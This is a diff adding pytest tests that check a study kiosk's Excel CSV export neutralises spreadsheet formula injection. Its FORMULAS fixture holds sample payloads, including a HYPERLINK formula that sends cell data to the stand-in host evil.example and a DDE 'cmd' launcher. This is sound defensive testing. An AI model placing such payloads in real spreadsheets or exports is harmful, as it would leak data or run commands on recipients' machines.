@@ -41,3 +41,62 @@ def test_each_session_is_scored_with_its_own_plan_sus_rule(store, clock) -> None
     assert results.sus.value == pytest.approx(60.0)
     group_sus = [g.sus.value for g in results.groups if g.participants]
     assert group_sus and all(v == pytest.approx(60.0) for v in group_sus)  # both chose the first choices
+
+
+def _read_csv(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1")
+
+
+def test_excel_export_neutralises_formulas_but_keeps_numbers(store, demo_study, clock, tmp_path: Path) -> None:
+    engine = run_session(store, demo_study, "P-0001", clock, assistance=FORMULAS[0], end=False)
+    for text in FORMULAS[1:]:
+        engine.add_note(text)
+    engine.add_note("-3")  # a number typed as a note is not a formula
+    engine.finish()
+    out = tmp_path / "excel"
+    from kiosk.reports.tabular import export_study_csv
+
+    export_study_csv(store, demo_study.id, out, excel=True)
+    plain = tmp_path / "plain"
+    export_study_csv(store, demo_study.id, plain)
+    as_typed = [row["text"] for row in _read_csv(plain / "notes.csv")]
+    assert as_typed[0] == FORMULAS[1]  # R and SPSS get the text as typed
+    notes = [row["text"] for row in _read_csv(out / "notes.csv")]
+    assert notes == ["'" + text for text in as_typed[:-1]] + ["-3"]
+    tasks = _read_csv(out / "task_results.csv")
+    assert tasks[0]["assistance"] == "'" + FORMULAS[0]
+    assert all(row["active_seconds"] == "60.0" and row["position"].isdigit() for row in tasks)
+    for name in ("participants.csv", "answers.csv", "events.csv", "consent.csv", "data_dictionary.csv"):
+        for row in _read_csv(out / name):
+            for value in row.values():
+                assert not value or value[0] not in "=+@\t\r" and not (value[0] == "-" and not _is_number(value)), \
+                    (name, value)
+    dictionary = (out / "data_dictionary.csv").read_text(encoding="utf-8-sig")
+    assert "apostrophe" in dictionary
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, " =1+1", "\n@x", "-", "+"])
+def test_every_formula_start_is_neutralised(text: str) -> None:
+    from kiosk.reports.tabular import excel_safe
+
+    assert excel_safe(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", [-3, -2.5, 0, "-3", "-2.75", "+4", "1e3", "", "Петар", "a=b", "P-0001"])
+def test_numbers_and_plain_text_stay_as_they_are(value) -> None:
+    from kiosk.reports.tabular import excel_safe
+
+    assert excel_safe(value) == value
+
+
+def _is_number(value: str) -> bool:
+    try:
+        float(value)
+    except ValueError:
+        return False
+    return True
